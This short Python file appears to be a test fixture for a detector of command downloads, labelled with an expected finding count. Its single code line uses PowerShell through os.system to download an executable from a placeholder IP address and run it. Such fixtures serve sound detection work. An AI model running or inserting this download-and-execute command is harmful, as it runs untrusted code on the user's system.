# expect: 3 command-downloads
import os
os.system('powershell Invoke-WebRequest -Uri http://198.51.100.7/a.exe -OutFile a.exe; ./a.exe')
